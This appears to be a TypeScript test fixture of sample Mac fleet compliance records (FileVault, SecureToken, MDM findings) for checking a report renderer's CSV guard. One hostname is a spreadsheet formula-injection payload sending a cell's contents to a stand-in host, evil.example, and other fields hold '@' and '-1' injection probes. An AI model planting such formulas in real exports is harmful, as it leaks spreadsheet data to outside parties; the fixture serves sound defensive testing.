// A small fleet as the read model returns it: the demo's Macs (compliant, not escrowed, user without a
// token, FileVault off, not enrolled, Intel) plus unknown, stale, pending and exempted cases, and hostile
// text (formula, quotes, commas, newline) for the CSV guard. Given in no particular order on purpose.
import type { FleetRow } from '../../../reports/render/index.ts';

export const FLEET: FleetRow[] = [
  {
    serial: 'C02ZK1ABMD6M',
    hostname: 'design-mbp-07',
    model: 'MacBookPro15,1',
    osVersion: '14.7.4',
    status: 'compliant',
    lastSeen: '2026-03-02T11:40:00.000Z',
    findings: [],
  },
  {
    serial: 'H4TXQ2WJ0F',
    hostname: 'alice-mba',
    model: 'Mac14,2',
    osVersion: '15.3.1',
    status: 'noncompliant',
    lastSeen: '2026-03-02T11:55:00.000Z',
    findings: [
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: 'bob',
        state: 'active',
        firstSeen: '2026-02-27T09:12:00.000Z',
        reason: 'bob has no SecureToken',
      },
      {
        rule: 'bootstrap-not-escrowed',
        severity: 'high',
        user: null,
        state: 'active',
        firstSeen: '2026-02-20T08:00:00.000Z',
        reason: 'the Mac says its Bootstrap Token is not escrowed to the MDM server',
      },
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: 'carol',
        state: 'active',
        firstSeen: '2026-03-01T10:00:00.000Z',
        reason: 'carol has no SecureToken',
      },
    ],
  },
  {
    serial: 'FVF3L0QWQ6LR',
    hostname: 'lab-imac-02',
    model: 'iMac21,1',
    osVersion: '15.2',
    status: 'noncompliant',
    lastSeen: '2026-03-02T10:00:00.000Z',
    findings: [
      {
        rule: 'filevault-off',
        severity: 'critical',
        user: null,
        state: 'active',
        firstSeen: '2026-01-15T12:00:00.000Z',
        reason: 'FileVault is off',
      },
    ],
  },
  {
    serial: 'C02YW0D4JG5J',
    hostname: 'kiosk-lobby',
    model: 'Macmini8,1',
    osVersion: '13.7.2',
    status: 'noncompliant',
    lastSeen: '2026-03-02T09:30:00.000Z',
    findings: [
      {
        rule: 'mdm-not-enrolled',
        severity: 'high',
        user: null,
        state: 'active',
        firstSeen: '2026-02-01T00:00:00.000Z',
        reason: 'the Mac says it is not enrolled in MDM',
      },
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: 'kiosk',
        state: 'exempted',
        firstSeen: '2026-01-10T00:00:00.000Z',
        reason: 'kiosk has no SecureToken',
      },
    ],
  },
  {
    serial: 'K7G2MX19PQ',
    hostname: 'sales-mba-12',
    model: 'Mac15,12',
    osVersion: '15.3.1',
    status: 'unknown',
    lastSeen: '2026-03-02T11:00:00.000Z',
    findings: [
      {
        rule: 'collection-incomplete',
        severity: 'info',
        user: null,
        state: 'active',
        firstSeen: '2026-03-02T11:00:00.000Z',
        reason:
          'collection errors left user-without-securetoken and no-securetoken-holder unknown: sysadminctl: "user dave: timed out after 10000 ms"',
      },
    ],
  },
  {
    serial: 'R9VN4TQ2LX',
    hostname: 'new-hire-mba',
    model: 'Mac16,12',
    osVersion: '15.3.1',
    status: 'compliant',
    lastSeen: '2026-03-02T11:58:00.000Z',
    findings: [
      {
        rule: 'no-volume-owner',
        severity: 'critical',
        user: null,
        state: 'pending',
        firstSeen: '2026-03-02T11:30:00.000Z',
        reason: 'none of erin is a volume owner',
      },
    ],
  },
  {
    serial: 'C07DQ1XYPJ',
    hostname: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    model: null,
    osVersion: null,
    status: 'noncompliant',
    lastSeen: '2026-02-10T07:00:00.000Z',
    findings: [
      {
        rule: 'stale',
        severity: 'medium',
        user: null,
        state: 'active',
        firstSeen: '2026-02-17T07:00:00.000Z',
        reason: 'no report for 20 days (last seen 2026-02-10T07:00:00.000Z; stale after 7 days)',
      },
      {
        rule: 'bootstrap-unusable',
        severity: 'high',
        user: null,
        state: 'active',
        firstSeen: '2026-02-01T07:00:00.000Z',
        reason: 'the token is escrowed but mdmclient says EACSPreflight = "failed, error 5"\nsee mdmclient',
      },
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: '@admin',
        state: 'active',
        firstSeen: '2026-02-01T07:00:00.000Z',
        reason: '-1 tokens for @admin, sadly',
      },
    ],
  },
];

/** A noncompliant device whose every text field (its findings' too) is `text`. */
export function hostileRow(text: string): FleetRow {
  return {
    serial: text,
    hostname: text,
    model: text,
    osVersion: text,
    status: 'noncompliant',
    lastSeen: text,
    findings: [
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: text,
        state: 'active',
        firstSeen: text,
        reason: text,
      },
      {
        rule: 'filevault-off',
        severity: 'critical',
        user: null,
        state: 'pending',
        firstSeen: text,
        reason: text,
      },
    ],
  };
}
